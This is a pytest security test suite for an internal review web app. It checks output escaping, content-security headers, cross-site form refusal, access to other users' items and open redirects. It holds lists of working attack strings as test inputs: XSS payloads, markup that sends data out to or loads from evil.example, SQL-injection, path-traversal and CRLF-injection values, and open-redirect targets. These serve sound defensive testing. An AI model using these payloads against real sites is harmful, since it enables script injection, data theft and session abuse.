"""Attacks on the desk: text of models and callers as a page, forms of other sites, frames, others' items, redirects."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import pytest

from tests.edge.desk.desks import Desk, Visitor

GUIDELINE_LINKS = ("https://wiki.bank.example/", "https://outside.example/")
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><button>Approve</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "</textarea><script>alert(1)</script>",
    "</pre></div><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "{{7*7}}{% raw %}{{ config }}",
    "${alert(1)} #{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a id=ahead><form class='ahead' action=//evil.example>",
    "<p class='claim' data-left=0 data-item=x>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "\u202eecilA ot\u202c \u200b\ufeff",
    "\x00\x1b[31m<b>\x07",
    "\ufffe<x>\uffff",
]
"""Each is an answer, a request, a comment, a field, a filter and a name of a workload."""
KNOWN = set(
    re.findall(
        r"\w+",
        """html head meta title link script body a header p div nav span main h1 h2 h3 form input button section details
        summary pre mark ul ol li dl dt dd time kbd footer label fieldset legend textarea select option datalist strong
        table thead tbody tr th td ins del""",
    )
)
"""Elements of the desk's pages."""


class _Reader(HTMLParser):
    """Collects tags and attributes of a page, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def check_page(page: str) -> None:
    """Check that a page has our own elements alone, and that nothing on it leads away or runs."""
    reader = _Reader()
    reader.feed(page)
    scripts = [attributes for tag, attributes in reader.tags if tag == "script"]
    assert scripts == [{"src": "/desk.js", "defer": None}]
    for tag, attributes in reader.tags:
        assert tag in KNOWN, tag
        assert [name for name in attributes if name.startswith("on") or name == "style"] == [], attributes
        for name in ("href", "src", "action", "formaction"):
            value = attributes.get(name) or "/"
            allowed = value.startswith(("/", "?", "#", *GUIDELINE_LINKS)) and not value.startswith("//")
            assert allowed, (tag, name, value)
    assert [attributes for tag, attributes in reader.tags if tag == "meta"] == [
        {"charset": "utf-8"},
        {"name": "viewport", "content": "width=device-width, initial-scale=1"},
    ]


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_text_of_models_and_callers_stays_text(desk: Desk, number: int):
    payload = PAYLOADS[number]
    anna, head = desk.visitor("anna", "everything"), desk.visitor("head", "everything")
    storable = payload.replace("\x00", "")
    held_id = desk.put(
        f"w{storable}"[:200],
        [payload, '{"' + storable.replace("\\", "").replace('"', "'") + '": ' + json.dumps(payload) + "}"],
        payload,
        domain=f"d{storable}",
        why=[f"guard:{storable}"],
        about={"verdicts": [payload], "unsure": [[payload, [[0, len(payload), 0.1]]]]},
        request={"response_format": {"type": payload}, "tools": [{payload: payload}]},
        message={"tool_calls": [{"function": {"name": payload, "arguments": payload}}], "refusal": payload},
        choice={"confidence": {"score": 0.2, "fields": {f"/{payload}": 0.2}}},
    )
    check_page(anna.get("/").text)
    check_page(
        anna.get(f"/?domain={quote(storable)}&workload={quote(storable)}&reason={quote(storable)}").text
    )
    page = anna.claim(held_id)
    check_page(page)
    preview = anna.decide(held_id, "correct", page, preview="1", **{"text-0": f"{payload} new"}, note=payload)
    check_page(preview.text)
    refused = anna.decide(held_id, "reject", page, reason=payload, note=payload)
    assert refused.status_code == 400
    check_page(refused.text)
    anna.token, good = "", anna.token
    check_page(anna.decide(held_id, "correct", page, **{"text-0": payload, payload: payload}).text)
    anna.token = good
    assert anna.decide(held_id, "escalate", page, note=payload).status_code == 303
    check_page(head.claim(held_id))


def test_characters_that_change_how_text_reads_are_shown(desk: Desk):
    page = desk.visitor("anna", "payments").claim(desk.put(answer="Pay \u202e21\u202c to\u200b Muster"))
    for code in ("U+202E", "U+202C", "U+200B"):
        assert f'<span class="hidden-character">{code}</span>' in page


# --- Frames and scripts


@pytest.mark.parametrize("path", ["/", "/items/{id}", "/items/x", "/desk.js", "/desk.css", "/?list=nonsense"])
def test_every_page_refuses_frames_outside_resources_and_inline_scripts(desk: Desk, path: str):
    answer = desk.visitor("anna", "payments").get(path.format(id=desk.put()))
    policy = answer.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy
    assert "default-src 'none'" in policy
    assert "script-src 'self';" in policy
    assert "unsafe" not in policy
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "no-" in answer.headers["cache-control"]


# --- Forms of other sites


def forms(desk: Desk) -> list[tuple[str, dict[str, str], Visitor]]:
    """Each form of the desk, ready to be sent."""
    held_id, delivered = desk.put(answer=None), desk.put("letters", delivered=True)
    anna = desk.visitor("anna", "payments")
    page, judged = anna.claim(held_id), anna.claim(delivered)
    item, other = f"/items/{held_id}", f"/items/{delivered}"
    return [
        (f"{item}/decide", {**anna.fields(page, f"{item}/decide"), "act": "reject", "reason": "other"}, anna),
        (f"{item}/release", anna.fields(page, f"{item}/release"), anna),
        (f"{item}/claim", anna.fields(page, f"{item}/claim"), anna),
        (f"{other}/judge", {**anna.fields(judged, f"{other}/judge"), "judgement": "wrong"}, anna),
        ("/next", anna.fields(anna.get("/").text, "/next"), anna),
    ]


@pytest.mark.parametrize(
    ("headers", "fields"),
    [
        ({"origin": "https://evil.example"}, {}),
        ({"origin": "null"}, {}),
        ({"origin": "https://127.0.0.1"}, {}),
        ({"origin": "https://127.0.0.1.evil.example"}, {}),
        ({"origin": ""}, {}),
        ({"sec-fetch-site": "cross-site"}, {}),
        ({"sec-fetch-site": "same-site"}, {}),
        ({"content-type": "text/plain"}, {}),
        ({"content-type": "application/json"}, {}),
        ({"content-type": "multipart/form-data; boundary=x"}, {}),
        ({}, {"csrf": ""}),
        ({}, {"csrf": "0" * 64}),
        ({"cookie": "__Host-isthmus-desk=" + "A" * 43}, {}),
        ({"cookie": ""}, {}),
    ],
)
def test_a_form_of_another_site_changes_nothing(desk: Desk, headers: dict[str, str], fields: dict[str, str]):
    sent = forms(desk)
    before = desk.site.sql("SELECT id, version, state FROM isthmus.held ORDER BY id")
    for path, own, visitor in sent:
        if "cookie" in headers:
            visitor.client.cookies.clear()
        refused = visitor.post(path, {**own, **fields}, **headers)
        assert refused.status_code in (403, 415), path
        assert "Muster" not in refused.text
    assert desk.site.sql("SELECT id, version, state FROM isthmus.held ORDER BY id") == before


def test_a_form_of_one_person_does_not_work_for_another(desk: Desk):
    for path, own, anna in forms(desk):
        bert = desk.visitor("bert", "payments")
        bert.client.cookies = anna.client.cookies
        assert bert.post(path, own).status_code == 403


def test_the_sessions_cookie_is_bound_to_the_desk(desk: Desk):
    cookie = desk.visitor("anna", "payments").get("/").headers["set-cookie"]
    assert cookie.startswith("__Host-isthmus-desk=")
    for part in ("Secure", "HttpOnly", "SameSite=lax", "Path=/"):
        assert part in cookie
    assert "Domain" not in cookie


def test_reading_changes_nothing_whatever_the_method(desk: Desk):
    held_id = desk.put()
    anna = desk.visitor("anna", "payments")
    for path in ("/next", *(f"/items/{held_id}/{act}" for act in ("claim", "release", "decide", "judge"))):
        assert anna.get(path).status_code in (404, 405)
    for path in ("/", f"/items/{held_id}"):
        assert anna.post(path, {}).status_code == 405
    assert desk.row(held_id)["version"] == 0


# --- Others' items


def test_an_item_of_another_domain_is_as_if_it_were_not_there(desk: Desk):
    held_id = desk.put("claims", domain="insurance")
    anna, kim = desk.visitor("anna", "payments"), desk.visitor("kim", "everything")
    page = kim.claim(held_id)
    token = anna.fields(anna.get("/").text, "/next")
    for act in ("claim", "release", "decide", "judge"):
        path = f"/items/{held_id}/{act}"
        own = {**kim.fields(page, f"/items/{held_id}/decide"), **token, "act": "reject", "judgement": "wrong"}
        refused = anna.post(path, own)
        assert refused.status_code == 404, act
        assert "Muster" not in refused.text
    row = desk.row(held_id)
    assert (row["version"], row["claimed_by"]) == (1, "kim@bank.example")


def test_nobody_decides_with_the_version_and_digest_of_anothers_claim(desk: Desk):
    held_id = desk.put()
    anna, bert = desk.visitor("anna", "payments"), desk.visitor("bert", "payments")
    page, path = anna.claim(held_id), f"/items/{held_id}/decide"
    own = {**anna.fields(page, path), **bert.fields(bert.get("/").text, "/next"), "act": "approve"}
    refused = bert.post(path, own)
    assert (refused.status_code, "Another reviewer has claimed" in refused.text) == (409, True)
    assert desk.sql("SELECT count(*) FROM isthmus.review_votes WHERE id = :id", held_id)[0][0] == 0


@pytest.mark.parametrize(
    "held_id",
    ["x", "0" * 32, "..%2f..%2fdesk.js", "%00", "'%20OR%201=1--", "0" * 31 + "%0a", "%e2%80%ae", "A" * 3000],
)
def test_an_id_that_no_item_has_is_not_found(desk: Desk, held_id: str):
    page = desk.visitor("anna", "everything").get(f"/items/{held_id}")
    assert page.status_code == 404
    if page.headers["content-type"].startswith("text/html"):
        check_page(page.text)


# --- Redirects


@pytest.mark.parametrize(
    "value",
    [
        "https://evil.example",
        "//evil.example",
        "/\\evil.example",
        "javascript:alert(1)",
        "%0d%0aset-cookie:x=1",
    ],
)
def test_no_parameter_and_no_field_leads_away(desk: Desk, value: str):
    anna = desk.visitor("anna", "payments")
    held_id = desk.put()
    query = "&".join(
        f"{name}={quote(value)}" for name in ("rd", "next", "back", "return", "url", "lang", "path")
    )
    page = anna.get(f"/items/{held_id}?{query}")
    assert page.status_code == 200
    check_page(page.text)
    own = {**anna.fields(page.text, f"/items/{held_id}/claim"), "rd": value, "location": value}
    own["filter"] = f"domain={quote(value)}&rd={quote(value)}"
    claimed = anna.post(f"/items/{held_id}/claim?rd={quote(value)}", own)
    assert re.fullmatch(rf"/items/{held_id}\?domain=[\w%+.-]+", claimed.headers["location"])
    anna.token = ""
    signed_out = anna.get(f"/items/{quote(value, safe='')}")
    assert 'href="/oauth2/start?rd=%2F"' in signed_out.text or signed_out.status_code == 404
    check_page(signed_out.text) if signed_out.status_code == 401 else None


def test_a_page_with_too_many_fields_or_bytes_is_refused(desk: Desk):
    anna = desk.visitor("anna", "payments")
    own: dict[str, Any] = anna.fields(anna.get("/").text, "/next")
    assert anna.post("/next", {**own, **{f"field-{number}": "" for number in range(6000)}}).status_code == 400
    assert anna.post("/next", {**own, "note": "x" * 5_000_000}).status_code == 413
